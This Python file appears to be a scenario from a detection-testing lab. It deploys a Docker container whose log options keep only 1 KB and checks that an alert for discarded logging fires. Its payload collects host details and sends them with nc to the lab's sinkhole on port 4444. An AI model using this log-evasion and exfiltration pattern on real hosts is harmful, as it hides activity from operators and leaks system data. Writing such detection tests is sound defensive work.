"""A payload runs with json-file options so small that the log keeps almost nothing."""

from __future__ import annotations

from lab import Lab, LabError, Logging, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario


class DiscardingLogOptions(Scenario):
    id = "docker.logging.discarding-log-options"
    title = "Payload runs with a 1 KB single-file log that throws its output away"
    kind = Kind.ADVERSARY
    techniques = ("T1562.001", "T1610")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.docker.logging-discarded",), within_s=15, may_fire={
        "stowaway.net.process-egress-not-allowlisted":
            "Its payload really sends host details with nc to the sinkhole's port 4444 on the lab internet, "
            "outside the egress allowlist.",
        "stowaway.net.egress-not-allowlisted":
            "The same connection really leaves the container for the sinkhole on the lab internet, seen on the "
            "wire, outside the egress allowlist.",
    })
    twin = "docker.logging.log-rotation"
    tags = ("logging", "defense-evasion")
    description = (
        "Deploys a container with the json-file driver and `max-size=1k`, `max-file=1`: the engine "
        "keeps at most 1 KB and truncates the file in place whenever it fills. The payload prints "
        "about 40 KB of host details and sends them to the sinkhole's port 4444. The scenario "
        "checks the sinkhole got the data and that the log file on the host holds at most a few "
        "KB of what was printed."
    )

    def detonate(self, lab: Lab) -> None:
        sink = lab.sinkhole.address
        payload = (
            "for i in $(seq 1 60); do ps -eo pid,user,comm,args; done; "
            f"{{ uname -a; id; ps -eo pid,comm; }} | nc -w 2 -q 1 {sink} 4444; sleep 60"
        )
        lab.action("deploy a container whose log keeps at most 1 KB")
        worker = lab.deploy(WorkloadSpec(role="worker", networks=("lan", "inet"), command=("sh", "-c", payload),
                                         logging=Logging(driver="json-file", options={"max-size": "1k",
                                                                                      "max-file": "1"})))
        lab.wait_for(lambda: bool(lab.sinkhole_records(peer=worker.addresses["inet"])), timeout=15,
                     what="the payload's data to reach the sinkhole")
        log_path = lab.log_path(worker)
        if log_path is not None and log_path.stat().st_size > 8 * 1024:
            raise LabError(f"the log kept {log_path.stat().st_size} bytes: the options did not discard output")
